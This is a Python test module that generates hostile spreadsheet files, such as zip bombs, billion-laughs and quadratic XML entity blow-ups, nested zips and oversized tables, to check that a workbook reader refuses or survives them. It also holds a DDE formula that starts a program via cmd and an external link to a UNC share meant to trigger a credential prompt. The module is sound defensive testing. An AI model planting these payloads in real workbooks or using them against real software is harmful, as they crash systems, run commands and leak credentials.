"""Files made to hurt whoever opens them: bombs, false counts, endless grids, kernels that repeat, and what programs smuggle into workbooks."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from ningbo_planner.exchange.reader.reading_codes import Refusal
from tests.exchange.odd_containers import bomb, html, ole, zip_of
from tests.exchange.odd_workbooks import (
    DECLARATION,
    MAIN,
    SHEET,
    STRINGS,
    STYLES,
    WORKBOOK,
    WORKBOOK_RELATIONS,
    good,
    good_parts,
    packed,
    relations,
    replaced,
    with_cell,
    with_parts,
    with_relations,
)

MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """One hostile file.

    Attributes:
        make: returns its bytes.
        allowed: why it may be refused; None when it may be read.
        is_good: whether the figures of the good form must come out when it is read.
    """

    make: Callable[[], bytes]
    allowed: frozenset[Refusal | None]
    is_good: bool = True


def _refused(make: Callable[[], bytes], *codes: Refusal) -> Hostile:
    """Return a file that must be refused for one of these reasons."""
    return Hostile(make, frozenset(codes))


def _read(make: Callable[[], bytes], *codes: Refusal, is_good: bool = True) -> Hostile:
    """Return a file that is read, or refused for one of these reasons."""
    return Hostile(make, frozenset({None, *codes}), is_good)


def _before_cells(inside: bytes) -> bytes:
    """Return the good workbook with something before its cells."""
    parts = good_parts()
    head, _, tail = str(parts[SHEET]).partition("<sheetData>")
    return packed({**parts, SHEET: head.encode() + inside + b"<sheetData>" + tail.encode()})


def _more_rows(rows: str) -> bytes:
    """Return the good workbook with rows behind the form."""
    return replaced(SHEET, ("</sheetData>", rows + "</sheetData>"))


def _strings(body: str) -> bytes:
    """Return the good workbook with another table of strings."""
    return packed({**good_parts(), STRINGS: f'<sst xmlns="{MAIN}">{body}</sst>'})


def huge_strings() -> bytes:
    """Return half a gigabyte of shared strings, a megabyte each, below no limit but that of a part."""
    return _strings(("<si><t>" + "长" * 349_525 + "</t></si>") * 500)


def large_strings() -> bytes:
    """Return 240 MB of shared strings, which passes the limit of a part just so."""
    return _strings(("<si><t>" + "x" * MEGABYTE + "</t></si>") * 240)


def many_strings() -> bytes:
    """Return 900,000 different shared strings."""
    return _strings("".join(f"<si><t>文字{number}</t></si>" for number in range(900_000)))


def million_rows() -> bytes:
    """Return a million rows of one cell."""
    return _more_rows("".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(10, 1_000_000)))


def million_blank_rows() -> bytes:
    """Return a million rows of one formatted, blank cell."""
    return _more_rows("".join(f'<row r="{row}"><c r="A{row}" s="1"/></row>' for row in range(10, 1_000_000)))


def filled_rows() -> bytes:
    """Return 100,000 rows of ten figures."""
    columns = "ABCDEFGHIJ"
    return _more_rows("".join(f'<row r="{row}">' + "".join(f'<c r="{name}{row}"><v>{row}.5</v></c>' for name in columns) + "</row>" for row in range(10, 100_010)))


def all_columns(until: int = 70) -> bytes:
    """Return 60 rows that use every column of the sheet."""
    names = [f"{first}{second}{third}" for first in " ABCDEFGHIJKLMNOPQRSTUVWXYZ" for second in " ABCDEFGHIJKLMNOPQRSTUVWXYZ" for third in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    names = [name.replace(" ", "") for name in names if not (name[0] != " " and name[1] == " ")][:16_384]
    return _more_rows("".join(f'<row r="{row}">' + "".join(f'<c r="{name}{row}"><v>1</v></c>' for name in names) + "</row>" for row in range(10, until)))


def wide_row() -> bytes:
    """Return one row that uses every column of the sheet."""
    return all_columns(11)


def far_blank() -> bytes:
    """Return a blank cell at the end of the sheet and a false dimension."""
    row = '<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
    return replaced(SHEET, ("</sheetData>", row), ("A4:G9", "A1:XFD1048576"))


def far_value() -> bytes:
    """Return a figure at the end of the sheet."""
    return _more_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def long_text() -> bytes:
    """Return one cell with a hundred million characters."""
    return replaced(SHEET, ("<v>430.8</v>", "<v>" + "1" * 100_000_000 + "</v>"))


def repeated_text() -> bytes:
    """Return a text of 30,000 characters that 60,000 cells refer to."""
    parts = good_parts()
    strings = str(parts[STRINGS]).replace("核心产业增加值", "长" * 30_000)
    rows = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>10</v></c></row>' for row in range(10, 60_010))
    return packed({**parts, STRINGS: strings, SHEET: str(parts[SHEET]).replace("</sheetData>", rows + "</sheetData>")})


def repeated_formula() -> bytes:
    """Return a formula of 8,000 characters that 60,000 cells share."""
    formula = "+".join(["A1"] * 2_600)
    head = f'<row r="10"><c r="H10"><f t="shared" ref="H10:H60010" si="0">{formula}</f><v>1</v></c></row>'
    return _more_rows(head + "".join(f'<row r="{row}"><c r="H{row}"><f t="shared" si="0"/><v>1</v></c></row>' for row in range(11, 60_011)))


def long_shared_formula() -> bytes:
    """Return a formula as long as the limits let it be, shared by 60,000 cells."""
    formula = "+".join(["A1"] * 300_000)
    head = f'<row r="10"><c r="H10"><f t="shared" ref="H10:H60010" si="0">{formula}</f><v>1</v></c></row>'
    return _more_rows(head + "".join(f'<row r="{row}"><c r="H{row}"><f t="shared" si="0"/><v>1</v></c></row>' for row in range(11, 60_011)))


def many_merges() -> bytes:
    """Return 190,000 merges that overlap in part."""
    merges = "".join(f'<mergeCell ref="A{row}:ZZ{row + 900}"/>' for row in range(20, 190_020))
    return replaced(SHEET, ("</mergeCells>", merges + "</mergeCells>"))


def many_names() -> bytes:
    """Return 190,000 defined names."""
    names = "".join(f'<definedName name="n{number}">填报表!$A${number + 1}</definedName>' for number in range(190_000))
    return replaced(WORKBOOK, ("</definedNames>", names + "</definedNames>"))


def many_sheets() -> bytes:
    """Return 4,000 sheets that are one and the same part."""
    sheets = "".join(f'<sheet name="表{number}" sheetId="{number + 9}" r:id="rId1"/>' for number in range(4_000))
    return replaced(WORKBOOK, ("</sheets>", sheets + "</sheets>"))


def many_relations() -> bytes:
    """Return 190,000 relations of the workbook."""
    extra = "".join(f'<Relationship Id="x{number}" Type="x/theme" Target="theme{number}.xml"/>' for number in range(190_000))
    return replaced(WORKBOOK_RELATIONS, ("</Relationships>", extra + "</Relationships>"))


def many_formats() -> bytes:
    """Return three million cell formats."""
    return replaced(STYLES, ("</cellXfs>", '<xf numFmtId="0" fontId="0"/>' * 3_000_000 + "</cellXfs>"))


def many_attributes() -> bytes:
    """Return one element with 300,000 attributes."""
    attributes = " ".join(f'a{number}="1"' for number in range(300_000))
    return _before_cells(f"<sheetCalcPr {attributes}/>".encode())


def many_comments() -> bytes:
    """Return 150,000 comments."""
    comments = "".join(f'<comment ref="A{row}" authorId="0"><text><t>批注</t></text></comment>' for row in range(1, 150_001))
    part = f'{DECLARATION}<comments xmlns="{MAIN}"><authors><author>x</author></authors><commentList>{comments}</commentList></comments>'
    return with_relations(("rId1", "comments", "../comments1.xml"), {"xl/comments1.xml": part})


def many_validations() -> bytes:
    """Return 5,000 validations, each over a thousand areas."""
    areas = " ".join(f"A{row}:B{row}" for row in range(1, 400))
    rules = f'<dataValidation type="decimal" sqref="{areas}"><formula1>0</formula1></dataValidation>' * 5_000
    return replaced(SHEET, ("</worksheet>", f"<dataValidations>{rules}</dataValidations></worksheet>"))


def pictures() -> bytes:
    """Return 20 MB of pictures that cannot be packed."""
    noise = random.Random(1).randbytes(20 * MEGABYTE)
    return with_parts({"xl/media/image1.png": noise})


def many_pictures() -> bytes:
    """Return 150,000 pictures over the form."""
    anchor = "<d:twoCellAnchor><d:from><d:col>4</d:col><d:row>4</d:row></d:from><d:to><d:col>5</d:col><d:row>6</d:row></d:to><d:pic/></d:twoCellAnchor>"
    part = f'{DECLARATION}<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">{anchor * 150_000}</d:wsDr>'
    return with_relations(("rId1", "drawing", "../drawings/drawing1.xml"), {"xl/drawings/drawing1.xml": part})


def false_count() -> bytes:
    """Return a false count of shared strings."""
    return replaced(STRINGS, ('uniqueCount="11"', 'uniqueCount="4294967295"'))


def laughs() -> bytes:
    """Return the billion laughs."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
    return replaced(STRINGS, (DECLARATION, f"{DECLARATION}<!DOCTYPE x [{entities}]>"))


def quadratic() -> bytes:
    """Return one long entity used often."""
    kernel = f'{DECLARATION}<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return replaced(SHEET, (DECLARATION, kernel), ("430.8", "&a;" * 10_000))


def quines() -> bytes:
    """Return workbooks in zips in zips."""
    data = good()
    for _ in range(6):
        data = zip_of(a__xlsx=data, b__xlsx=data)
    return data


def shell_formula() -> bytes:
    """Return a formula that starts a program."""
    return with_cell("<c r=\"E5\"><f>cmd|'/C calc'!A0</f><v>430.8</v></c>")


def linked() -> bytes:
    """Return a link to a server that would be asked for a password."""
    links = str(good_parts()[WORKBOOK_RELATIONS]).replace("</Relationships>", "")
    links += '<Relationship Id="rId9" Type="x/externalLink" Target="externalLinks/e1.xml"/></Relationships>'
    book = f'{DECLARATION}<externalLink xmlns="{MAIN}"><externalBook/></externalLink>'
    to = relations(("rId1", "externalLinkPath", "file:///\\\\198.51.100.1\\share\\x.xlsx")).replace(".xlsx", '.xlsx" TargetMode="External', 1)
    return with_parts({WORKBOOK_RELATIONS: links, "xl/externalLinks/e1.xml": book, "xl/externalLinks/_rels/e1.xml.rels": to})


def noise_ole() -> bytes:
    """Return 50 MB that begin as an old Excel file."""
    return ole("Workbook") + random.Random(2).randbytes(50 * MEGABYTE)


def long_text_file() -> bytes:
    """Return 50 MB of text without a line."""
    return b"1," * (25 * MEGABYTE)


HOSTILE: dict[str, Hostile] = {
    "300 MB of blanks in 300 KB": _refused(lambda: _before_cells(b" " * (300 * MEGABYTE)), Refusal.PART_TOO_LARGE),
    "100 MB of blanks": _refused(lambda: _before_cells(b" " * (100 * MEGABYTE)), Refusal.TOO_MUCH_CONTENT),
    "a bomb that understates itself": _refused(lambda: bomb(200 * MEGABYTE, 20_000), Refusal.DAMAGED_PART),
    "6 million empty strings": _refused(lambda: _strings("<si><t/></si>" * 6_000_000), Refusal.PART_TOO_LARGE),
    "900,000 strings": _refused(many_strings, Refusal.TOO_MANY_STRINGS),
    "500 MB of strings": _refused(huge_strings, Refusal.PART_TOO_LARGE),
    "240 MB of strings": _refused(large_strings, Refusal.PART_TOO_LARGE),
    "a million rows": _refused(million_rows, Refusal.TOO_MANY_ROWS),
    "a million blank rows": _read(million_blank_rows, Refusal.TOO_SLOW),
    "100,000 rows of ten figures": _refused(filled_rows, Refusal.TOO_MANY_ROWS, Refusal.TOO_MANY_CELLS),
    "60 rows of 16,384 columns": _refused(all_columns, Refusal.TOO_MANY_CELLS),
    "a row of 16,384 columns": _read(wide_row, is_good=False),
    "a blank at XFD1048576": _read(far_blank),
    "a figure at XFD1048576": _read(far_value, is_good=False),
    "ten million levels": _refused(lambda: replaced(SHEET, ("<sheetData>", "<a>" * 10_000_000 + "<sheetData>")), Refusal.TOO_DEEP),
    "a hundred million digits": _refused(long_text, Refusal.TOO_MUCH_CONTENT),
    "one long text in 60,000 cells": _refused(repeated_text, Refusal.TOO_MUCH_CONTENT),
    "one long formula in 60,000 cells": _read(repeated_formula, is_good=False),
    "an endless formula in 60,000 cells": _read(long_shared_formula, is_good=False),
    "uniqueCount 4294967295": _read(false_count),
    "190,000 merges": _refused(many_merges, Refusal.TOO_MANY_RECORDS),
    "190,000 names": _refused(many_names, Refusal.TOO_MANY_RECORDS),
    "4,000 sheets of one part": _refused(many_sheets, Refusal.DUPLICATE_PART),
    "190,000 relations": _read(many_relations),
    "3 million formats": _refused(many_formats, Refusal.TOO_MANY_RECORDS),
    "300,000 attributes": _read(many_attributes, Refusal.TOO_MUCH_CONTENT),
    "150,000 comments": _refused(many_comments, Refusal.TOO_MANY_RECORDS),
    "5,000 validations of 400 areas": _read(many_validations),
    "20 MB of pictures": _read(pictures),
    "150,000 pictures over the form": _refused(many_pictures, Refusal.TOO_MANY_RECORDS),
    "billion laughs": _refused(laughs, Refusal.DOCTYPE),
    "quadratic blow-up": _refused(quadratic, Refusal.DOCTYPE),
    "20,000 entries": _refused(lambda: with_parts({f"xl/media/{number}.bin": "" for number in range(20_000)}), Refusal.TOO_MANY_ENTRIES),
    "zips in zips": _refused(quines, Refusal.ZIP_OF_FILES),
    "a zip with password flag": _refused(lambda: _flagged(), Refusal.ZIP_PASSWORD),
    "a formula to the shell": _read(shell_formula, is_good=False),
    "a link to a server": _read(linked),
    "macros": _read(lambda: with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 1000})),
    "an embedded object": _read(lambda: with_parts({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 1000})),
    "50 MB of old Excel": _refused(noise_ole, Refusal.XLS),
    "password to open": _refused(lambda: ole("EncryptionInfo", "EncryptedPackage"), Refusal.PASSWORD),
    "HTML as workbook": _refused(html, Refusal.HTML),
    "50 MB of text": _refused(long_text_file, Refusal.CSV_TEXT, Refusal.UNKNOWN_KIND),
    "70 MB of nothing": _refused(lambda: b"PK\x03\x04" + bytes(70 * MEGABYTE), Refusal.TOO_BIG),
}


def _flagged() -> bytes:
    """Return a zip whose entries say that they are encrypted."""
    data = bytearray(packed(good_parts(), zipfile.ZIP_STORED))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 1)
    return bytes(data)


